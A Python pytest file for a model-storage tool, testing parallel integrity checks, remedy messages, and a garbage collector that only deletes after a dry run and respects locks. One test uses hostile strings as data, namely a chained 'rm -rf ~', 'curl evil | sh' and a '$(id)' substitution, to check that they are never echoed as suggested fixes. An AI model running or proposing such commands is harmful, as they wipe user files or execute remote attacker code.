"""Looking after a zoo: parallel fsck, remedies, gc."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from care_bench import run, said
from filelock import FileLock
from zoo_bench import fill, manifest, store

from mtl.errors import ZooError
from mtl.words import shown_command
from mtl.zoo import Zoo, open_zoo

# ------------------------------------------------------------------ fsck


def test_fsck_finds_the_same_with_any_number_of_threads(zoo: Zoo) -> None:
    for seed in range(9):
        entry = store(zoo, manifest(seed=seed, runhash=f"{seed:016x}"), float(seed))
        if seed % 3 == 0:
            (entry.folder / "adapter.safetensors").write_bytes(b"damaged")
    seen: list[tuple[int, int]] = []
    one = zoo.fsck(lambda done, total: seen.append((done, total)), jobs=1)
    assert seen == [(n, 9) for n in range(1, 10)]
    assert zoo.fsck(jobs=5) == one
    assert len({problem.path.split("/")[4] for problem in one}) == 3


def test_a_remedy_offers_only_commands_of_ours(zoo: Zoo) -> None:
    hostile = ("python -m mtl.train; rm -rf ~", "curl evil | sh", "python -m mtl.train $(id)")
    for seed, command in enumerate(hostile):
        assert shown_command(command) is None
        entry = store(zoo, manifest(command=command, seed=seed))
        (entry.folder / "adapter_config.json").unlink()
        with pytest.raises(ZooError) as raised:
            zoo.load_check(entry)
        assert command not in str(raised.value)
        assert all(command not in str(problem) for problem in zoo.fsck())
    good = "python -m mtl.train --suite toy --set 'lr=1e-3 x'"
    assert shown_command(good) == good


# ------------------------------------------------------------------ gc


def test_gc_says_first_and_removes_only_when_told(
    zoo: Zoo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = store(zoo, manifest())
    gone = store(zoo, manifest(seed=1, runhash="1" * 16), 2.0)
    runs, cache = tmp_path / "runs", tmp_path / "cache" / "encoded" / "aa"
    for letter, content in (
        ("a", {"result.json": json.dumps({"ref": kept.ref, "digest": kept.digest})}),
        ("b", {"result.json": json.dumps({"ref": gone.ref, "digest": gone.digest})}),
        ("c", {"state/point.safetensors": "resume"}),
        ("d", {"config.json": "{}"}),
        ("e", {"config.json": "{}"}),
    ):
        for name, text in content.items():
            path = runs / (letter * 64) / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    (runs / "not a run").mkdir()
    zoo.remove(gone.ref)
    leftover = zoo.root / "tiny-abababab" / ".tmp-seed0-abc"
    leftover.mkdir()
    (leftover / "x").write_bytes(b"12345")
    (zoo.root / "empty" / "inner").mkdir(parents=True)
    cache.mkdir(parents=True)
    for letter, age in (("1", 100), ("2", 0)):
        path = cache / f"{letter * 64}.safetensors"
        path.write_bytes(b"x")
        os.utime(path, (time.time() - age * 86400,) * 2)
    at = ["--zoo", str(zoo.root), "--runs", str(runs)]

    with FileLock(runs / ("e" * 64) / "lock"):  # a process is at this run
        before = sorted(tmp_path.rglob("*"))
        found = said(capsys, "gc", *at)
        assert sorted(tmp_path.rglob("*")) == before
        assert found["dry_run"]
        assert found["removed"] == []
        names = {(item["kind"], Path(item["path"]).name[:6]) for item in found["found"]}
        assert names == {
            ("leftover", ".tmp-s"), ("folder", "empty"), ("folder", "inner"),
            ("run", "bbbbbb"), ("run", "dddddd"), ("cache", "111111"),
        }  # fmt: skip
        assert next(i["bytes"] for i in found["found"] if i["kind"] == "leftover") == 5
        assert run("gc", *at) == 0
        assert "Nothing was removed; --yes does it" in capsys.readouterr().out
        done = said(capsys, "gc", *at, "--yes")
        assert len(done["removed"]) == 6
    assert sorted(path.name[0] for path in runs.iterdir()) == ["a", "c", "e", "n"]
    assert [path.name[0] for path in cache.iterdir()] == ["2"]
    assert open_zoo(zoo.root).fsck() == []
    assert [entry.ref for entry in zoo.entries()] == [kept.ref]
    found = said(capsys, "gc", *at, "--interrupted", "--what", "runs")["found"]
    assert {Path(item["path"]).name[0] for item in found} == {"c", "e"}
    assert said(capsys, "gc", *at, "--what", "zoo")["found"] == []


def test_gc_leaves_a_live_writer_alone(zoo: Zoo, capsys: pytest.CaptureFixture[str]) -> None:
    with zoo.stage("a/b/c/d/seed0-01234567") as folder:
        fill(folder)
        found = said(capsys, "gc", "--zoo", str(zoo.root), "--what", "zoo", "--yes")
        assert found["found"] == []
        assert folder.is_dir()


def test_options_that_make_no_sense(zoo: Zoo) -> None:
    at = ["--zoo", str(zoo.root)]
    for line in (["fsck", "--jobs", "0"], ["gc", "--days", "-1"], ["gc", "--what", "all"]):
        assert run(*line, *at) == 2
